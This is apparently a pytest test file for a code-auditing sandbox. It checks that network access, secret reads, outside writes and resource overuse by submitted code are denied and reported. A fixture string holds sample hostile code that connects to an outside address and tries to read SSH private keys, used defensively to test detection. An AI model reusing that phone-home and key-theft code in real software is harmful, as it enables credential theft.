"""The sandbox: limits, guards, the result channel, and findings from what it denied."""

import os
import shutil
import tempfile
from pathlib import Path

import pytest

from harness.sandbox import Limits, findings_from_blocked, network_namespace_prefix, parse_frame
from harness.sandbox import run_sandboxed as _run_sandboxed
from harness.submission import load_submission

T = "tests.sandbox_drivers:"


@pytest.fixture
def outside():
    """A host folder outside /tmp (inside the sandbox, /tmp is the sandbox's own tmpfs)."""
    d = Path(tempfile.mkdtemp(prefix="golf-audit-test-", dir="/var/tmp"))
    yield d
    shutil.rmtree(d, ignore_errors=True)


def run_sandboxed(*a, **kw):
    # The drivers here need no torch: skip its preload, which costs seconds per child.
    return _run_sandboxed(*a, preload=(), **kw)


def test_result_round_trip_without_pickle(tmp_path):
    (tmp_path / "train_gpt.py").write_text("print('hi')\n")
    r = run_sandboxed(T + "echo", {"k": 2}, copy_dir=tmp_path)
    assert r.ok and r.value["k"] == 2 and r.value["array"].tolist() == [0.0, 2.0, 4.0, 6.0]
    assert r.value["cwd_has_sub"]
    assert {"rlimits", "audit-hooks"} <= set(r.isolation)


def test_socket_is_denied_and_reported():
    r = run_sandboxed(T + "open_socket", {})
    assert not r.ok and r.error == "PermissionError: golf-audit sandbox: socket denied (new AF_INET socket)"
    assert [(b["kind"], b["event"]) for b in r.blocked] == [("network", "socket")]


HOSTILE_IMPORT = """\
import os, pwd, socket

def phone_home():
    try:
        socket.create_connection(("203.0.113.7", 443), timeout=1)
    except OSError:
        pass  # hostile code swallows the denial and carries on

def steal():
    home = pwd.getpwuid(os.getuid()).pw_dir
    for p in (os.path.expanduser("~/.ssh/id_rsa"), home + "/.ssh/id_rsa"):
        try:
            open(p).read()
        except OSError:
            pass

phone_home()
phone_home()
steal()
RESULT = "imported"
"""


def test_denials_inside_submission_code_become_findings(tmp_path):
    (tmp_path / "train_gpt.py").write_text(HOSTILE_IMPORT)
    r = run_sandboxed(T + "import_entry", {"entry": "$SUBMISSION/train_gpt.py"}, copy_dir=tmp_path)
    assert r.ok and r.value == {"result": "imported"}  # denials were caught, the run went on
    kinds = [(b["kind"], b["path"], b["line"]) for b in r.blocked]
    assert kinds[:2] == [("network", "train_gpt.py", 5)] * 2 and ("secret", "train_gpt.py", 13) in kinds
    details = [b["detail"] for b in r.blocked if b["kind"] == "secret"]
    assert "~/.ssh/id_rsa" in details  # the sandbox HOME is named as the child sees it, not /tmp/...
    sub = load_submission(tmp_path)
    findings = findings_from_blocked(r, sub)
    rules = [(f.rule, f.family, f.severity, f.line, f.data["count"]) for f in findings]
    assert rules[0] == ("SBX001", "external-access", "error", 5, 2)
    assert {f.rule for f in findings} == {"SBX001", "SBX002"}
    assert all(f.path == sub.display(tmp_path / "train_gpt.py") for f in findings)
    assert findings_from_blocked(r, sub)[0].message == findings[0].message  # stable


def test_secret_reads_and_outside_writes_are_denied(outside, tmp_path):
    r = run_sandboxed(T + "read_ssh", {"path": "/root/.ssh/id_rsa"})
    assert not r.ok and r.blocked[0]["kind"] == "secret"
    target = outside / "evil.txt"
    r = run_sandboxed(T + "write_outside", {"path": str(target)})
    assert not r.ok and r.blocked[0]["event"] == "open-for-write" and not target.exists()
    r = run_sandboxed(T + "os_level_write", {"path": str(target)})
    assert not r.ok and r.blocked[0]["kind"] == "write" and not target.exists()
    assert findings_from_blocked(r, load_submission(tmp_path)) == []  # a broken run, not a finding


def test_every_other_bypass_is_denied(outside):
    victim = outside / "victim.txt"
    victim.write_text("keep me")
    r = run_sandboxed(T + "attempts", {"victim": str(victim)})
    assert r.ok, r.error
    assert {k for k, v in r.value.items() if not v} == set(), r.value
    assert victim.read_text() == "keep me"
    assert {b["kind"] for b in r.blocked} == {"write", "secret", "native", "process", "network"}


def test_network_namespace_has_only_loopback():
    r = run_sandboxed(T + "net_interfaces", {})
    assert r.ok and r.value == ["lo"] and "bwrap" in r.isolation


@pytest.mark.skipif(network_namespace_prefix() is None, reason="unshare --net does not work here")
def test_unsandboxed_run_keeps_its_network_namespace(monkeypatch):
    monkeypatch.setenv("GOLF_AUDIT_BWRAP", "/bin/false")
    r = run_sandboxed(T + "net_interfaces", {}, limits=Limits(allow_unsandboxed=True))
    assert r.ok and r.value == ["lo"] and {"unsandboxed", "netns"} <= set(r.isolation)


def test_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "secret-value")
    r = run_sandboxed(T + "env", {})
    assert r.ok and "GITHUB_TOKEN" not in r.value and r.value["HOME"] != os.environ.get("HOME")


def test_wall_clock_timeout():
    r = run_sandboxed(T + "spin", {}, limits=Limits(wall_seconds=2))
    assert not r.ok and r.timed_out and r.error == "timed out after 2 s wall clock"


def test_cpu_limit():
    r = run_sandboxed(T + "spin", {}, limits=Limits(cpu_seconds=1, wall_seconds=30))
    assert not r.ok and not r.timed_out and r.error == "CPU-time limit of 1 s exceeded"


def test_memory_and_file_size_limits():
    r = run_sandboxed(T + "allocate", {"bytes": 3 << 30}, limits=Limits(memory_bytes=2 << 30))
    assert not r.ok and r.error.startswith("MemoryError")
    r = run_sandboxed(T + "write_big_file", {"bytes": 2 << 20}, limits=Limits(file_size_bytes=1 << 20))
    assert not r.ok and r.error.startswith("OSError: [Errno 27] File too large")


def test_output_flood_keeps_only_a_tail():
    r = run_sandboxed(T + "flood_stdout", {"mib": 256}, limits=Limits(output_bytes=4096))
    assert r.ok and r.stdout_bytes == 256 << 20 and len(r.stdout_tail) == 4096


def test_child_dying_mid_result_is_one_clear_line():
    r = run_sandboxed(T + "die_mid_write", {})
    assert r.error == "the child died while sending its result (5 of 100 bytes arrived); child exited with code 3"


def test_forged_second_result_is_rejected():
    r = run_sandboxed(T + "forge_result", {})
    assert not r.ok and r.error.startswith("the result channel held more than one result (tampered with?)")


def test_exit_without_result_and_oversized_result():
    r = run_sandboxed(T + "exit_hard", {})
    assert not r.ok and r.error == "child exited with code 7"
    r = run_sandboxed(T + "big_result", {"n": 1 << 20}, limits=Limits(result_bytes=1 << 20))
    assert not r.ok and r.error == "result larger than the 1048576-byte limit; child stopped"


@pytest.mark.parametrize("raw, problem", [
    (b"", None),
    (b"garbage", "the result channel held something that is not a golf-audit result (tampered with?)"),
    (b"GASB1 3\n[1]", "the child's result is not a JSON object"),
    (b"GASB1 3\n{x}", "the child's result is not valid JSON"),
])
def test_frame_parser(raw, problem):
    assert parse_frame(raw) == (None, problem)


def test_torch_imports_under_the_guards():
    r = run_sandboxed(T + "import_torch", {})
    assert r.ok and r.value == 3.0 and not r.blocked, (r.error, r.blocked)


def test_special_files_in_the_submission_are_not_copied(tmp_path):
    (tmp_path / "train_gpt.py").write_text("RESULT = 1\n")
    os.mkfifo(tmp_path / "pipe.log")  # copying a FIFO would block forever
    (tmp_path / "zero.py").symlink_to("/dev/zero")
    r = run_sandboxed(T + "import_entry", {"entry": "$SUBMISSION/train_gpt.py"}, copy_dir=tmp_path,
                      limits=Limits(wall_seconds=60))
    assert r.ok and r.value == {"result": 1}
